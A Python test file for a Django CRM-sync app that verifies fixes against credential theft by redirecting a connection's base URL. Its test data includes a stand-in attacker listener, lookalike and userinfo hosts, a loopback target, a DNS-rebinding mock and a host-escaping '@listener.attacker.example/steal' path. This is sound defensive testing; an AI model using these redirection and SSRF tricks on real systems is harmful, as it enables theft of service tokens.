"""Issue 15, row 4: a staff user who may only change connections pointed the CRM connection's
base URL at their own listener, pressed "Test connection" and received the CRM token."""

import pytest
from django.contrib.auth.models import Permission, User
from django.core.management import CommandError, call_command
from django.test import Client
from django.urls import reverse

from portal.models import WorkspaceMembership, WorkspaceRole
from sync.connectors import connector_for
from sync.models import Connection, DeliveryAttempt
from tests.sync.factories import CRM_BASE_URL as CRM
from tests.sync.factories import ConnectionFactory

pytestmark = pytest.mark.django_db
TOKEN = "pit-the-real-crm-token-0001"
LISTENER = "https://listener.attacker.example"


@pytest.fixture
def operator_client(workspace) -> Client:
    """A staff user who may change connections, an operator of the test workspace only."""
    user = User.objects.create_user("operator", password="pw", is_staff=True)
    for codename in ("view_connection", "change_connection"):
        user.user_permissions.add(Permission.objects.get(codename=codename))
    WorkspaceMembership.objects.create(user=user, workspace=workspace, role=WorkspaceRole.OPERATOR)
    client = Client()
    client.force_login(user)
    return client


@pytest.fixture
def crm_conn(workspace):
    return ConnectionFactory(workspace=workspace, credentials={"token": TOKEN})


def form_for(conn: Connection, **changes) -> dict:
    form = {
        "workspace": conn.workspace_id, "provider": conn.provider, "name": conn.name,
        "slug": conn.slug, "active": "on", "base_url": conn.base_url,
        "location_id": conn.location_id, "scopes": "", "options": "{}",
        "source_of_truth": "[]", "users_direction": "both", "contacts_direction": "both",
        "tasks_direction": "both", "notes_direction": "both", "appointments_direction": "both",
        "rate_limit_requests": 100, "rate_limit_interval_seconds": 10,
        "rate_limit_daily": 200000,
    }  # fmt: skip
    return {**form, **changes}


def change(client, conn, **changes):
    return client.post(
        reverse("admin:sync_connection_change", args=[conn.pk]), form_for(conn, **changes)
    )


@pytest.mark.parametrize(
    "url",
    [
        LISTENER,
        "http://services.leadconnectorhq.com",
        "https://services.leadconnectorhq.com.attacker.example",
        "https://services.leadconnectorhq.com:8443",
        "https://user:pw@services.leadconnectorhq.com",
        "http://127.0.0.1:9000",
    ],
)
def test_the_crm_base_url_is_limited_to_the_crms_api_host(admin_client, crm_conn, url):
    response = change(admin_client, crm_conn, base_url=url, new_credentials='{"token": "x-new"}')
    assert response.status_code == 200
    assert (
        "sends its token only to https://services.leadconnectorhq.com" in response.content.decode()
    )
    assert Connection.objects.get(pk=crm_conn.pk).base_url == CRM


def test_a_stand_in_host_must_be_allowed_and_a_sandbox_may_point_anywhere(
    admin_client, crm_conn, settings, monkeypatch
):
    import socket

    public = [(socket.AF_INET, socket.SOCK_STREAM, 6, "", ("93.184.215.14", 443))]
    monkeypatch.setattr(socket, "getaddrinfo", lambda *args, **kwargs: public)
    settings.SSRF_ALLOWED_HOSTS = ["crm-stand-in.internal"]
    allowed = change(admin_client, crm_conn, base_url="http://crm-stand-in.internal:8765")
    assert allowed.status_code == 302
    dry_run = change(admin_client, crm_conn, base_url=LISTENER, dry_run="on")
    assert dry_run.status_code == 302
    assert Connection.objects.get(pk=crm_conn.pk).base_url == LISTENER


def test_changing_where_credentials_go_needs_them_typed_again(operator_client, crm_conn, settings):
    settings.SSRF_ALLOWED_HOSTS = ["crm-stand-in.internal"]
    moved = "http://crm-stand-in.internal:8765"
    refused = change(operator_client, crm_conn, base_url=moved)
    assert refused.status_code == 200
    assert "type the credentials again" in refused.content.decode()
    assert Connection.objects.get(pk=crm_conn.pk).base_url == CRM
    # Typed again (so the operator knows them), the change is allowed.
    confirmed = change(
        operator_client, crm_conn, base_url=moved, new_credentials=f'{{"token": "{TOKEN}"}}'
    )
    assert confirmed.status_code == 302
    assert Connection.objects.get(pk=crm_conn.pk).base_url == moved


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("provider", "rest"),
        ("options", '{"allow_private_network": true}'),
        ("options", '{"auth": {"type": "api_key", "header": "X-Leak"}}'),
    ],
)
def test_provider_and_auth_options_need_the_credentials_too(
    operator_client, workspace, field, value
):
    conn = ConnectionFactory(
        workspace=workspace,
        provider="rest",
        base_url="https://partner.example",
        credentials={"token": TOKEN},
        options={"auth": {"type": "bearer"}},
    )
    new = value if field != "provider" else "webhook"
    response = change(operator_client, conn, **{field: new})
    assert response.status_code == 200
    assert "type the credentials again" in response.content.decode()


def test_other_fields_change_without_the_credentials(operator_client, crm_conn):
    assert change(operator_client, crm_conn, name="Renamed").status_code == 302
    assert Connection.objects.get(pk=crm_conn.pk).name == "Renamed"


def test_a_crm_connection_pointed_elsewhere_sends_nothing(crm, crm_conn):
    """Whatever put it there (an old row, a direct database edit), no request leaves."""
    Connection.objects.filter(pk=crm_conn.pk).update(base_url=LISTENER)
    crm_conn.refresh_from_db()
    result = connector_for(crm_conn).test()
    assert not result.ok and "sends its token only to" in result.message
    assert not crm.calls
    attempt = DeliveryAttempt.objects.get()
    assert attempt.outcome == "permanent" and TOKEN not in attempt.request_excerpt


def test_the_crm_connection_goes_through_the_ssrf_guard(crm, crm_conn, monkeypatch):
    import socket

    def rebinding(host, port, *args, **kwargs):  # the CRM's host now resolves to loopback
        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", ("127.0.0.1", port))]

    monkeypatch.setattr(socket, "getaddrinfo", rebinding)
    result = connector_for(crm_conn).test()
    assert not result.ok and "SSRF guard" in result.message and "loopback" in result.message
    assert not crm.calls


def test_a_configured_path_cannot_leave_the_connections_host(workspace, crm):
    from sync.transport.http import HttpClient, RemoteError

    conn = ConnectionFactory(workspace=workspace, credentials={"token": TOKEN})
    client = HttpClient(conn, auth=lambda: {"Authorization": f"Bearer {TOKEN}"})
    with pytest.raises(RemoteError, match="would leave the connection's host"):
        client.request("GET", "@listener.attacker.example/steal")
    assert not crm.calls


def test_the_command_refuses_another_crm_host(settings):
    with pytest.raises(CommandError, match="sends its token only to"):
        call_command(
            "connections", "add", "highlevel", "--name", "X", "--location-id", "L",
            "--token", "t", "--base-url", LISTENER,
        )  # fmt: skip
    settings.SSRF_ALLOWED_HOSTS = ["127.0.0.1"]
    call_command(
        "connections", "add", "highlevel", "--name", "Stand-in", "--location-id", "L",
        "--token", "t", "--base-url", "http://127.0.0.1:8765",
    )  # fmt: skip
    assert Connection.objects.get(name="Stand-in").base_url == "http://127.0.0.1:8765"
